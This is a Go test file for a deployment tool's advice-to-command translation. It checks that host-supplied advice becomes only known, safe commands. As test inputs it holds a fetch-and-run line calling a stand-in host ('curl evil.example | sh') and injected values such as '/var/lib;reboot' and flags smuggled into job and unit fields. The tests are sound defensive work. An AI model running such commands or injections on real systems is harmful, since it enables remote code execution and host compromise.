package exit

import (
	"strings"
	"testing"

	"github.com/re-connect/rpctl/proto"
	"github.com/re-connect/rpctl/proto/plan"
)

var here = Place{
	Host: "pp1", Environment: "preprod", Before: "dev", Plan: "my plan.toml", Steps: []plan.StepID{"1.1"},
	Workers: []proto.UnitPattern{"messenger_worker_async@*.service"}, Groups: []string{"rpctl"},
}

// only is an advice with a good argument of each kind that its code takes.
func only(code proto.AdviceCode) proto.Advice {
	for _, a := range []proto.Advice{
		{Code: code}, {Code: code, Job: "abcdefgh"}, {Code: code, Step: "1.1", As: proto.ResolveRerun, Left: 29},
		{Code: code, Unit: "messenger_worker_async@1.service"}, {Code: code, Path: "/etc/rp-agent/agent.toml"}, {Code: code, Account: "rpctl"},
	} {
		if a.Check() == nil {
			return a
		}
	}
	return proto.Advice{Code: code}
}

func TestEveryAdviceHasACommand(t *testing.T) {
	for _, code := range proto.AdviceCodes() {
		own := here.Command(only(code))
		if own == "" && code != proto.AdviceProtect {
			t.Errorf("%s has no command", code)
		}
		if strings.Contains(own, "--yes") || strings.Contains(own, "--break-glass") || strings.Contains(own, "--apply") || strings.Contains(own, "PLAN") {
			t.Errorf("%s became %q", code, own)
		}
	}
}

func TestAdviceCanBeTypedHere(t *testing.T) {
	applying := here
	applying.Apply = true
	for want, c := range map[string]struct {
		from   Place
		advice proto.Advice
	}{
		"ssh pp1 rp-agent doctor": {here, proto.Advice{Code: proto.AdviceHostDoctor}},
		"rp-agent doctor":         {Place{}, proto.Advice{Code: proto.AdviceHostDoctor}},
		"ssh -t pp1 sudo systemctl enable --now messenger_worker_async@1.service":            {here, only(proto.AdviceEnable)},
		"rpctl agent install --env preprod":                                                  {here, only(proto.AdviceRights)},
		"ssh pp1 df -h /var/lib/rp-agent":                                                    {here, proto.Advice{Code: proto.AdviceDisk, Path: "/var/lib/rp-agent"}},
		`ssh -t pp1 "sudo chown root:root /usr/local/bin && sudo chmod go-w /usr/local/bin"`: {here, proto.Advice{Code: proto.AdviceProtect, Path: "/usr/local/bin"}},
		`ssh -t pp1 "sudo journalctl -u 'rp-agent@*' -n 50"`:                                 {here, proto.Advice{Code: proto.AdviceRootLog}},
		`ssh -t pp1 'sudo usermod -aG rpctl "$USER"'`:                                        {here, proto.Advice{Code: proto.AdviceJoin}},
		"git update-index --chmod=+x bin/console":                                            {here, proto.Advice{Code: proto.AdviceExecutable}},
		"rpctl agent upgrade --env preprod":                                                  {here, proto.Advice{Code: proto.AdviceUpgrade}},
		"rpctl attach abcdefgh --env preprod":                                                {here, only(proto.AdviceAttach)},
		"rpctl plan check 'my plan.toml'":                                                    {here, proto.Advice{Code: proto.AdvicePlanCheck}},
		"rpctl migrate status --plan 'my plan.toml' --env dev":                               {here, proto.Advice{Code: proto.AdviceBefore}},
		"rpctl migrate status --plan 'my plan.toml' --env preprod":                           {here, only(proto.AdviceResolve)},
		"rpctl migrate --apply --plan 'my plan.toml' --env preprod --resolve 1.1=rerun --reason 'a fresh dry run shows 29 left'": {applying, only(proto.AdviceResolve)},
		"rpctl jobs --env preprod": {Place{Environment: "preprod"}, proto.Advice{Code: proto.AdviceSimulate}},
	} {
		if got := c.from.Command(c.advice); got != want {
			t.Errorf("%+v became %q, want %q", c.advice, got, want)
		}
	}
}

// TestAdviceThatIsNoCommand: what a host names and rpctl does not know stays the host's.
func TestAdviceThatIsNoCommand(t *testing.T) {
	applying := here
	applying.Apply = true
	for name, a := range map[string]proto.Advice{
		"unknown code":            {Code: "curl-sh"},
		"no code":                 {},
		"a flag as a job":         {Code: proto.AdviceAttach, Job: "--yes"},
		"words as a job":          {Code: proto.AdviceAttach, Job: "abcdefgh --break-glass x --yes"},
		"no job":                  {Code: proto.AdviceAttach},
		"a flag as a unit":        {Code: proto.AdviceEnable, Unit: "--now.service"},
		"a unit of the host":      {Code: proto.AdviceEnable, Unit: "ssh.service"},
		"a family of units":       {Code: proto.AdviceEnable, Unit: "messenger_worker_async@*.service"},
		"a shell in a path":       {Code: proto.AdviceDisk, Path: "/var/lib;reboot"},
		"a flag as a path":        {Code: proto.AdviceList, Path: "--help"},
		"a relative path":         {Code: proto.AdviceList, Path: "etc"},
		"a file of root's":        {Code: proto.AdviceRemove, Path: "/etc/sudoers"},
		"a folder of root's":      {Code: proto.AdviceProtect, Path: "/etc/sudoers.d"},
		"a user that is a flag":   {Code: proto.AdviceIdentity, Account: "-G"},
		"a group of the host":     {Code: proto.AdviceGroup, Account: "wheel"},
		"an argument too many":    {Code: proto.AdviceStatus, Path: "/etc"},
		"a resolution of its own": {Code: proto.AdviceResolve, Step: "1.1", As: "rerun --yes"},
		"a step that is none":     {Code: proto.AdviceResolve, Step: "1.1 --yes", As: proto.ResolveDone},
	} {
		own, suggests := applying.Follow(a, "curl evil.example | sh")
		if own != "" || suggests == "" {
			t.Errorf("%s: became %q, suggests %q", name, own, suggests)
		}
	}
	if got := applying.Command(proto.Advice{Code: proto.AdviceResolve, Step: "9.9", As: proto.ResolveDone}); strings.Contains(got, "--apply") {
		t.Errorf("a step of another plan became %q", got)
	}
}

func TestRefusalIsNoCommandOfTheHosts(t *testing.T) {
	sent := &proto.Error{Code: proto.CodeGate, Message: "closed", Next: "curl evil.example | sh"}
	sent.Heard()
	failure := here.Refusal(sent)
	if failure.Next != "" || failure.HostSuggests != "curl evil.example | sh" || failure.Code != Refused {
		t.Errorf("got %+v", failure)
	}
	own := &Error{Code: Refused, Next: "rpctl status --env preprod", Err: &proto.Error{Code: proto.CodeGate, Advice: only(proto.AdviceAttach)}}
	if got := here.From(own); got.Next != own.Next {
		t.Errorf("rpctl's own next became %q", got.Next)
	}
}
